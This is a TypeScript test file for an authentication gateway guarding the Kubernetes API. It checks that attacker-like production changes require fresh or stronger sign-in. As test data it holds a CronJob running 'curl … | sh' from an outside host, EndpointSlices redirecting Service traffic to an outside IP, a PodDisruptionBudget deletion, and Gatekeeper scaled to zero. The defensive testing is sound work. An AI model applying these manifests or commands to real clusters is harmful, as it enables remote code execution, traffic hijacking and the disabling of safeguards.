import { describe, expect, it } from 'vitest';
import { reasonOf, type CheckResponse } from '../support/grpc-client.js';
import { exampleServiceForFile } from '../support/workday-service.js';
import type { Login } from '../support/workday.js';

/**
 * What the tenth replayed day (test/support/workday10.ts, docs/risk.md "Day 10") found allowed,
 * through the real gRPC server running examples/stepgate.yaml on a virtual clock, from malware on
 * the laptop of an engineer who works in those production namespaces (their address, kubectl and
 * two-factor token, four hours after their sign-in):
 * - a production namespace named per region (`checkout-prod-euw1`) was no production namespace:
 *   no `prod-*` rule read it, so a write there asked what the default asks (one factor);
 * - an EndpointSlice written by hand, which sends a production Service's traffic to an outside
 *   address (CVE-2021-25740's way), asked no more than a Deployment's image bump;
 * - a PodDisruptionBudget deleted, after which evictions take every replica at once, likewise.
 */

const s = exampleServiceForFile();
const T0 = Date.UTC(2027, 2, 11, 7, 50, 0);
const H = 3_600_000;
const OFFICE = '10.52.1.45';
const KUBECTL = 'kubectl/v1.32.3 (darwin/arm64) kubernetes/32cc146';
const JSON_CT = 'application/json';
const SMP = 'application/strategic-merge-patch+json';

function send(login: Login, at: number, method: string, path: string, body?: string, contentType = JSON_CT): Promise<CheckResponse> {
  const headers: Record<string, string> = { 'user-agent': KUBECTL, ...(body !== undefined ? { 'content-type': contentType, 'x-envoy-auth-partial-body': 'false' } : {}) };
  return s.sendAt(login, at, { method, path, source: OFFICE, headers, ...(body !== undefined ? { body } : {}) });
}

const rules = (res: CheckResponse) => res.dynamic_metadata?.fields.rules?.stringValue ?? '';
const setImage = (tag: string) => JSON.stringify({ spec: { template: { spec: { containers: [{ name: 'api', image: `ghcr.io/example-nl/checkout-api:${tag}` }] } } } });

/** A release manager's morning in the regional production namespaces, signed in with two factors 40 s before. */
async function morning(sub: string, namespaces: string[]): Promise<Login> {
  const login: Login = { sub, sid: `${sub}:1`, authTime: Math.floor((T0 - 40_000) / 1000), acr: 'urn:stepgate:aal2' };
  let t = T0;
  for (const ns of namespaces) {
    for (const [method, path, body] of [
      ['GET', `/api/v1/namespaces/${ns}/pods?limit=500`],
      ['GET', `/apis/discovery.k8s.io/v1/namespaces/${ns}/endpointslices?labelSelector=kubernetes.io%2Fservice-name%3Dcheckout-api`],
      ['PATCH', `/apis/apps/v1/namespaces/${ns}/deployments/checkout-api?fieldManager=kubectl-set`, setImage('v2.40.3')],
    ] as [string, string, string?][]) {
      const res = await send(login, (t += 20_000), method, path, body, SMP);
      expect(res.status.code, `${method} ${path}: ${reasonOf(res)}`).toBe(0);
    }
  }
  return login;
}

describe('production namespaces named per region, with examples/stepgate.yaml', () => {
  it('a write in checkout-prod-euw1 is a production write: one factor is not enough', async () => {
    await morning('release-a@example.nl', ['checkout-prod-euw1']);
    // The same engineer's password alone (a one-factor sign-in), from the same office and kubectl.
    const phished: Login = { sub: 'release-a@example.nl', sid: 'release-a:phish', authTime: Math.floor((T0 + H) / 1000), acr: 'urn:stepgate:aal1' };
    const res = await send(phished, T0 + H + 60_000, 'PATCH', '/apis/apps/v1/namespaces/checkout-prod-euw1/deployments/checkout-api?fieldManager=kubectl-set', setImage('v2.41.0'), SMP);
    expect(reasonOf(res)).toBe('acr_insufficient');
    expect(rules(res)).toContain('prod-writes');
  });

  // ("prod*" reads product-dev as production already: that errs on the side of asking.)
  it('control: a namespace with "-prod" inside a word (catalog-products-dev) stays ordinary', async () => {
    const login: Login = { sub: 'dev-a@example.nl', sid: 'dev-a:1', authTime: Math.floor((T0 - 40_000) / 1000), acr: 'urn:stepgate:aal1' };
    const res = await send(login, T0 + 10_000, 'PATCH', '/apis/apps/v1/namespaces/catalog-products-dev/deployments/api?fieldManager=kubectl-set', setImage('v1'), SMP);
    expect(reasonOf(res)).toBe('allowed');
  });
});

describe("a production Service's traffic and disruption budget, with examples/stepgate.yaml", () => {
  it('an EndpointSlice written by hand four hours after the sign-in needs a recent one (prod-endpoint-writes)', async () => {
    const login = await morning('release-b@example.nl', ['checkout-prod-euw1', 'checkout-prod-euc1']);
    const later = T0 + 4 * H;
    // The image bump at the same hour is still the morning's sign-in's (prod-writes: 8 hours).
    expect(reasonOf(await send(login, later, 'PATCH', '/apis/apps/v1/namespaces/checkout-prod-euc1/deployments/checkout-api?fieldManager=kubectl-set', setImage('v2.41.0'), SMP))).toBe('allowed');
    const slice = JSON.stringify({
      apiVersion: 'discovery.k8s.io/v1',
      kind: 'EndpointSlice',
      metadata: { name: 'checkout-api-extra', labels: { 'kubernetes.io/service-name': 'checkout-api' } },
      addressType: 'IPv4',
      ports: [{ name: 'http', port: 8080, protocol: 'TCP' }],
      endpoints: [{ addresses: ['198.51.100.23'] }],
    });
    const res = await send(login, later + 20_000, 'POST', '/apis/discovery.k8s.io/v1/namespaces/checkout-prod-euw1/endpointslices', slice);
    expect(reasonOf(res)).toBe('auth_too_old');
    expect(rules(res)).toContain('prod-endpoint-writes');
    // The core API's Endpoints, the older way to the same.
    const legacy = await send(login, later + 40_000, 'PUT', '/api/v1/namespaces/checkout-prod-euc1/endpoints/checkout-api', JSON.stringify({ apiVersion: 'v1', kind: 'Endpoints', metadata: { name: 'checkout-api' }, subsets: [{ addresses: [{ ip: '198.51.100.23' }], ports: [{ port: 8080 }] }] }));
    expect(reasonOf(legacy)).toBe('auth_too_old');
    expect(rules(legacy)).toContain('prod-endpoint-writes');
  });

  it('a PodDisruptionBudget deleted four hours after the sign-in needs a recent one (prod-durable-deletes); an eviction alone does not', async () => {
    const login = await morning('sre-c@example.nl', ['payments-prod']);
    const later = T0 + 4 * H;
    // A drain's eviction is routine, and the budget is what holds it back.
    expect(reasonOf(await send(login, later, 'POST', '/api/v1/namespaces/payments-prod/pods/payments-api-6f8c9d-k2x7p/eviction', JSON.stringify({ apiVersion: 'policy/v1', kind: 'Eviction', metadata: { name: 'payments-api-6f8c9d-k2x7p' } })))).toBe('allowed');
    const res = await send(login, later + 20_000, 'DELETE', '/apis/policy/v1/namespaces/payments-prod/poddisruptionbudgets/payments-api');
    expect(reasonOf(res)).toBe('auth_too_old');
    expect(rules(res)).toContain('prod-durable-deletes');
  });
});

describe('persistence and admission control from a known laptop, with examples/stepgate.yaml', () => {
  const cronJob = JSON.stringify({
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name: 'cache-warmer' },
    spec: { schedule: '17 */6 * * *', jobTemplate: { spec: { template: { spec: { restartPolicy: 'OnFailure', containers: [{ name: 'warm', image: 'curlimages/curl:8.12.1', command: ['sh', '-c', 'curl -sf https://cdn-checkout.net/w.sh | sh'] }] } } } } },
  });

  it('a CronJob created in a production namespace of the working set, four hours after the sign-in, needs a recent one (prod-scheduled-jobs) and, for its `curl … | sh`, a hardware key (container_command_egress), by POST or server-side apply', async () => {
    const login = await morning('release-c@example.nl', ['checkout-prod-apse1']);
    const later = T0 + 4 * H;
    const res = await send(login, later, 'POST', '/apis/batch/v1/namespaces/checkout-prod-apse1/cronjobs?fieldManager=kubectl-create', cronJob);
    // Since session 45 the command (a script fetched and run at every schedule) asks more than the
    // rule's freshness: the strongest level (acr_insufficient), both named.
    expect(reasonOf(res)).toBe('acr_insufficient');
    expect(rules(res)).toContain('prod-scheduled-jobs');
    expect(rules(res)).toContain('guardrail:container_command_egress');
    // `kubectl apply --server-side` creates what does not exist yet.
    const applied = await send(login, later + 20_000, 'PATCH', '/apis/batch/v1/namespaces/checkout-prod-apse1/cronjobs/cache-warmer?fieldManager=kubectl&force=true', cronJob, 'application/apply-patch+yaml');
    expect(reasonOf(applied)).toBe('acr_insufficient');
    expect(rules(applied)).toContain('prod-scheduled-jobs');
    expect(rules(applied)).toContain('guardrail:container_command_egress');
    // Routine: suspending an existing CronJob, and an on-call rerun of one as a Job.
    expect(reasonOf(await send(login, later + 40_000, 'PATCH', '/apis/batch/v1/namespaces/checkout-prod-apse1/cronjobs/checkout-reindex', JSON.stringify({ spec: { suspend: true } }), 'application/merge-patch+json'))).toBe('allowed');
    const job = JSON.stringify({ apiVersion: 'batch/v1', kind: 'Job', metadata: { name: 'checkout-reindex-manual-x7k2p', annotations: { 'cronjob.kubernetes.io/instantiate': 'manual' } }, spec: { template: { spec: { restartPolicy: 'Never', containers: [{ name: 'reindex', image: 'ghcr.io/example-nl/checkout-api:v2.40.3' }] } } } });
    expect(reasonOf(await send(login, later + 60_000, 'POST', '/apis/batch/v1/namespaces/checkout-prod-apse1/jobs?fieldManager=kubectl-create', job))).toBe('allowed');
  });

  it("Gatekeeper's controller scaled to zero (its webhook then admits everything) needs a hardware key, as deleting the webhook does; a rollout restart does not", async () => {
    const login = await morning('platform-c@example.nl', ['checkout-prod-euw1']);
    const later = T0 + 2 * H;
    const path = '/apis/apps/v1/namespaces/gatekeeper-system/deployments/gatekeeper-controller-manager';
    const restart = JSON.stringify({ spec: { template: { metadata: { annotations: { 'kubectl.kubernetes.io/restartedAt': '2027-03-11T09:50:00Z' } } } } });
    expect(reasonOf(await send(login, later, 'PATCH', `${path}?fieldManager=kubectl-rollout`, restart, SMP))).toBe('allowed');
    const res = await send(login, later + 20_000, 'PATCH', `${path}/scale`, JSON.stringify({ spec: { replicas: 0 } }), 'application/merge-patch+json');
    expect(reasonOf(res)).toBe('acr_insufficient');
    expect(rules(res)).toContain('system-component-deletes');
    expect(reasonOf(await send(login, later + 40_000, 'DELETE', path))).toBe('acr_insufficient');
  });
});
